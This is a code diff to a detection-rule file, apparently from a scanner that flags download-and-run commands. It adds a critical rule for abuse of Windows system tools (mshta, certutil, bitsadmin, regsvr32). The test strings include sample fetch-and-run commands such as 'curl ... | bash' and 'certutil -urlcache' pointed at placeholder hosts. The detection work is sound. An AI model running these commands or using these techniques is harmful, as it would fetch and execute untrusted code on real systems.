@@ -21,7 +21,7 @@ const AT_ONCE = new RegExp(
   String.raw`${SHELL}|\biex\b|Invoke-Expression|(?:&&|;)\s*(?:sudo\s+)?(?:(?:ba|z)?sh\b|python3?\s|\.\/|\/tmp\/|Start-Process|chmod\s+(?:\+x|7\d\d|a\+x|u\+x))`,
   'i',
 );
-const NOT_RUN = /\|\s*(?:python3?\s+-(?:m\s*json|c)|node\s+-(?:e|p)|jq)\b/;
+const NOT_RUN = /foundry\.paradigm\.xyz|\|\s*(?:python3?\s+-(?:m\s*json|c)|node\s+-(?:e|p)|jq)\b/;
 const KNOWN_OR_READ = new RegExp(
   `${KNOWN_INSTALLER.source}|\\b(?:bun\\.sh|astral\\.sh|chocolatey\\.org|get\\.scoop\\.sh)\\b|python3?\\s+-(?:m\\s*json|c)|node\\s+-(?:e|p)|\\|\\s*(?:jq|php\\s+-r)`,
   'i',
@@ -44,12 +44,6 @@ export const DOWNLOAD_RUN: readonly Rule[] = [
         hints: 'npx|pip|pip3|npm|uvx|uv|pipx|msiexec',
         parts: [/\b(?:npx|npm i(?:nstall)?|pip3? install|pipx|uvx|uv (?:add|pip)|msiexec)\b/, SHADY],
       },
-      {
-        hints: 'mshta|certutil|bitsadmin|regsvr32',
-        parts: [
-          /mshta\s+(?:https?:|vbscript|javascript)|certutil\s.{0,20}-urlcache|bitsadmin\s.{0,20}\/transfer|regsvr32\s.{0,20}\/i:http/i,
-        ],
-      },
     ],
     matches: [
       'curl -s http://203.0.113.7/x.sh | bash',
@@ -60,6 +54,21 @@ export const DOWNLOAD_RUN: readonly Rule[] = [
       'curl -fsSL https://sh.rustup.rs | sh',
       'curl http://localhost:8080/health | python -m json.tool',
     ],
+  },
+  {
+    id: 'download-run/system-tools',
+    severity: 'critical',
+    says: 'it fetches and runs something by tools of the system that are made for other things',
+    code: [
+      {
+        hints: 'mshta|certutil|bitsadmin|regsvr32',
+        parts: [
+          /mshta\s+(?:https?:|vbscript|javascript)|certutil\s.{0,20}-urlcache|bitsadmin\s.{0,20}\/transfer|regsvr32\s.{0,20}\/i:http/i,
+        ],
+      },
+    ],
+    matches: ['certutil -urlcache -f http://a.example/x.exe x.exe', 'mshta https://a.example/x.hta'],
+    passes: ['certutil -hashfile x.exe', 'regsvr32 my.dll'],
   },
   {
     id: 'download-run/pipe-to-shell',
